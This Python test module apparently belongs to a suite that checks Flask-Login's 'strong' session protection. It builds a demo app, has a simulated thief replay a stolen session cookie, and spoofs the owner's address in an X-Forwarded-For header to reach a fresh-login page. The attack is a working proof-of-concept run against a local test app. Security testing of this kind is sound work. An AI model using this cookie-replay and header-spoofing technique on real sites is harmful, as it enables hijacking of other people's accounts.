"""Strong session protection is passed by sending the owner's address in `X-Forwarded-For`.

Row `strong-xff`: Flask-Login binds a session to the address and the User-Agent, and reads the
address from a header that every client can write.
"""

from __future__ import annotations

from flask import Flask
from flask_login import fresh_login_required

from ._browser import CAFE, Browser
from ._people import add_login, add_me, inside, log_in, people
from ._row import Outcome, Row, require
from ._target import Target

ROW = Row("strong protection bypassed by a spoofed X-Forwarded-For")


def build(target: Target) -> Flask:
    """An app under strong protection with a page that needs a fresh login."""
    app = target.app(__name__)
    users = people(app, protection="strong")
    add_login(app, users)
    add_me(app)

    @app.get("/bank-details")
    @fresh_login_required
    def bank_details() -> str:
        return "Account 4711."

    return target.ready(app)


def attack(target: Target) -> Outcome:
    """Replay the cookie from elsewhere with the owner's address in the header."""
    app = build(target)
    owner = Browser(app)
    log_in(owner)
    require(owner.get("/bank-details").status == 200, "the owner's own login is not fresh")
    thief = Browser(app, address=CAFE).steal_from(owner)
    spoofed = {"X-Forwarded-For": owner.address}
    reply = thief.get("/bank-details", headers=spoofed)
    require(inside(owner), "the owner was logged out by the thief's request")
    log_in(owner)
    require(owner.get("/bank-details").status == 200, "logging in again did not make it fresh")
    if reply.status == 200:
        return Outcome(True, f"from {CAFE} with the header the thief reads: {reply.text}")
    return Outcome(False, f"from {CAFE} the header changes nothing: {reply.status}")
